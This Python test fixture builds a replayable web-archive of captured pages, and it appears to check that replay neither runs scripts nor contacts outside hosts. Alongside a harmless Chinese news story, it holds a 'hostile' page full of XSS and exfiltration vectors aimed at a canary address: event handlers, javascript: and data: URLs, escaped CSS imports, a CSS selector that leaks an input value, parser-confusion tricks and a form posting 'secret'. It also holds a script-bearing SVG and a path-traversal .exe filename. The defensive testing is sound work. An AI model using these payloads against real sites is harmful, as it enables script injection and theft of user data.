"""An archive of captured pages to replay: a news site's, and hostile ones."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from archive import Archive, Article, Crumb, Evidence, Exchange, Image, Person, Visit
from tests import archives

SITE = "http://news.example"
NIGHT = datetime(2026, 3, 1, 12, tzinfo=UTC)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c49444154789c63f8cfc000000301010018dd8db00000000049454e44ae426082"
)
"""A red picture of one pixel."""

GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x01\x00\x00\xff\x00\x00\x00\x00"
    b"!\xf9\x04\x01\x00\x00\x01\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)

STORY = f"{SITE}/2010/07/21/1.shtml"
STORY_PAGE = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"
 "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><title>草原来了候鸟</title>
<meta http-equiv="Content-Type" content="text/html; charset=gb2312">
<link rel="stylesheet" href="/style/main.css"><script src="/ad.js"></script></head>
<body background="/i/tile.gif">
<div class="nav"><a href="/list.html">新闻</a>
<a href="http://other.example/">友情链接</a>
<a href="#text">正文</a> <a href="mailto:a@news.example">投稿</a></div>
<h1>草原来了候鸟</h1>
<div id="text"><p>镕喆在湖边看见了三百只候鸟。</p>
<img id="there" src="/i/bird.png" width="60" height="40" alt="候鸟">
<img id="lazy" src="/i/blank.gif" data-original="/i/bird.png?v=3" width="30">
<img id="missing" src="/i/gone.jpg" width="60" height="40" alt="湖面">
<picture><source srcset="/i/bird.png 2x"><img id="choice" src="/i/gone.jpg"></picture>
<noscript><b id="plain">没有脚本也看得见</b></noscript></div>
<iframe src="/weather.html" width="200" height="60"></iframe>
<iframe src="http://ads.example/frame.html"></iframe>
</body></html>"""

STYLE = """@charset "gb2312"; @import "more.css"; @import url(gone.css) print;
h1 { color: rgb(1, 2, 3) } /* url(x.png) */
.nav { background: url("../i/tile.gif") }
.no { background: url(//ads.example/x.png) }"""


def hostile(canary: str) -> str:
    """A page that tries to run and to reach an address; what it must not do.

    canary: `http://host:port`, where somebody listens.
    """
    return f"""<!DOCTYPE html><html manifest="{canary}/manifest" onclick="steal()">
<head><base href="{canary}/" target="_top"><title>a</title>
<title><a href="{canary}/title">t</title>
<meta http-equiv="refresh" content="0;url={canary}/refresh">
<meta http-equiv="REFRESH" content="0;url=data:text/html,<script>steal()</script>">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="Set-Cookie" content="a=b"><meta charset="utf-7">
<link rel="stylesheet" href="{canary}/sheet.css">
<link rel="preload" as="image" href="{canary}/preload.png">
<link rel="prefetch dns-prefetch preconnect" href="{canary}/prefetch">
<link rel="icon" href="{canary}/icon.ico"><link rel="manifest" href="{canary}/m.json">
<style>@import "{canary}/a.css"; @IMPORT url( {canary}/b.css );
@\\69mport "{canary}/c.css"; body {{ background: u\\72l({canary}/d.png) }}
input[value^="s"] {{ background: url('{canary}/leak?s') }}
@font-face {{ font-family: f; src: url({canary}/f.woff) }} p {{ font-family: f }}
p {{ background: image-set("{canary}/e.png" 1x); cursor: url({canary}/g.cur), auto }}
#x::before {{ content: url({canary}/h.png) }}
</style></style>
<style><!-- p {{ color: red }} </sty le><img src="{canary}/i.png"></style>
<script>steal()</script><script src="{canary}/s.js"></script>
<script type="module">import "{canary}/m.js"; document.title = "ran"</script>
</head><body onload="steal()" background="{canary}/bg.png">
<h1 id="shown">敌意</h1><p id="x">x</p>
<img src="{canary}/1.png" onerror="steal()"><img srcset="{canary}/2.png 2x">
<img src=x onerror=steal()><image src="{canary}/3.png"/>
<input type=image src="{canary}/4.png">
<video poster="{canary}/5.png" src="{canary}/5.mp4" autoplay></video>
<audio src="{canary}/6.mp3" autoplay></audio><bgsound src="{canary}/7.wav">
<object data="{canary}/8.swf"><embed src="{canary}/9.swf"></object>
<applet code="{canary}/10.class"></applet>
<iframe src="{canary}/11.html"></iframe><iframe src="javascript:steal()"></iframe>
<iframe srcdoc="<script>steal()</script><img src='{canary}/12.png'>"></iframe>
<iframe src="data:text/html,<img src={canary}/13.png>"></iframe>
<svg onload="steal()"><image xlink:href="{canary}/14.png" href="{canary}/15.png"/>
<use href="{canary}/16.svg#a"/>
<a xlink:href="javascript:steal()"><text y="20">a</text></a>
<set attributeName="href" to="javascript:steal()"/>
<style>@import "{canary}/17.css";</style>
<foreignObject><img src="{canary}/18.png"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src={canary}/19.png onerror=steal()&gt;"></table>
</mtext></math>
<noscript><p title="</noscript><img src={canary}/20.png onerror=steal()>"></noscript>
<!--><img src="{canary}/21.png" onerror="steal()">-->
<!--[if IE]><img src="{canary}/22.png"><![endif]-->
<xmp><img src="{canary}/23.png"></xmp>
<textarea><img src="{canary}/24.png"></textarea>
<noembed><img src="{canary}/25.png"></noembed>
<template><img src="{canary}/26.png"></template>
<a id="js" href="javascript:steal()">a</a>
<a id="jst" href=" java\tscript:steal()">b</a>
<a id="data" href="data:text/html,<script>steal()</script>">c</a>
<a id="out" href="{canary}/out" ping="{canary}/ping" target="_top">d</a>
<a id="base" href="27.html">e</a> <area href="{canary}/28.html">
<form id="f" action="{canary}/form" method="post" target="_top">
<input name="q" value="secret"><button id="send" formaction="{canary}/fa">f</button>
<input type="submit" id="go"></form>
<div style="background:url({canary}/29.png);position:fixed;top:0">g</div>
<table background="{canary}/30.png"><tr><td background="{canary}/31.png">h</table>
<a<b href="{canary}/32">i</a<b>
<plaintext><img src="{canary}/33.png" onerror="steal()">"""


FRAMES = """<html><head><title>框架</title></head><frameset cols="50%,50%">
<frame src="/weather.html"><frame src="http://ads.example/"></frameset></html>"""


def page(
    path: str,
    body: bytes,
    head: str = "text/html",
    status: str = "200 OK",
    more: str = "",
) -> Exchange:
    """What came from an address of the site."""
    lines = f"HTTP/1.1 {status}\r\nContent-Type: {head}\r\n{more}\r\n".encode()
    url = path if "://" in path else SITE + path
    return Exchange(
        url=url,
        captured_at=NIGHT,
        request=b"GET / HTTP/1.1\r\n\r\n",
        response=lines + body,
    )


def looks(canary: str) -> Iterator[Visit]:
    """Every page, picture and style sheet of the site, and of the hostile one."""
    gbk = STORY_PAGE.encode("gb18030")
    story = _look(page("/2010/07/21/1.shtml", gbk, "text/html; charset=ISO-8859-1"))
    yield replace(story, kind="article", article=_article(), extractor="1")
    yield _look(page("/i/bird.png", PNG, "text/html"))
    yield _look(page("/i/tile.gif", GIF, "image/gif"))
    yield _look(page("/i/blank.gif", GIF, "image/gif"))
    yield _look(page("/style/main.css", STYLE.encode("gb18030"), "text/css"))
    yield _look(page("/style/more.css", b"b { color: rgb(4, 5, 6) }", "text/css"))
    yield _look(page("/weather.html", "<p id=w>晴</p>".encode(), "text/html"))
    yield _look(page("/list.html", f"<a href={STORY}>草原</a>".encode(), "text/html"))
    yield _look(page("/frames.html", FRAMES.encode(), "text/html; charset=utf-8"))
    yield _look(page("/hostile.html", hostile(canary).encode(), "text/html"))
    script = f'<script>location="{canary}"</script>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'
    yield _look(page("/i/evil.svg", svg.encode(), "image/svg+xml"))
    yield _look(
        page('/a/"><b>\u202e..%2f..%2fx.exe', b"MZ\0\0", "application/x-msdownload")
    )
    moved = "Location: /2010/07/21/1.shtml\r\n"
    yield _look(page("/old.html", b"", "text/html", "302 Found", moved))
    yield _look(page("/404.html", b"<h1>no</h1>", "text/html", "404 Not Found"))
    cut = page("/cut.html", b"<p>cut", "text/html")
    yield _look(replace(cut, truncated="length"))
    later = page("/i/bird.png", GIF, "image/gif")
    yield _look(replace(later, captured_at=NIGHT + timedelta(days=400)))


def _look(exchange: Exchange) -> Visit:
    return Visit(
        url=exchange.url,
        site="example",
        visited_at=exchange.captured_at,
        kind="page",
        state="captured",
        exchange=exchange,
    )


def _article() -> Article:
    return Article(
        url=STORY,
        kind="article",
        site="example",
        title="草原来了候鸟",
        published="2010-07-21T17:18:00+08:00",
        published_text="10-07-21 17:18",
        source="内蒙古日报",
        people=(Person(name="镕喆", role="reporter", affiliation="新华社"),),
        breadcrumb=(Crumb(name="新闻", url=f"{SITE}/list.html"),),
        body="镕喆在湖边看见了三百只候鸟。",
        images=(Image(url=f"{SITE}/i/bird.png", caption="候鸟", position=1),),
        language="zh-CN",
        evidence=(
            Evidence(
                field="encoding", rule="declaration", place="meta", text="gb18030"
            ),
            Evidence(
                field="title", rule="layout", place="/html/body/h1", text="草原来了候鸟"
            ),
        ),
    )


def make(path: Path, canary: str = "http://canary.example") -> Path:
    """An archive of these captures; its folder."""
    with Archive.create(path) as archive:
        archives.fill(archive, list(looks(canary)))
    return path
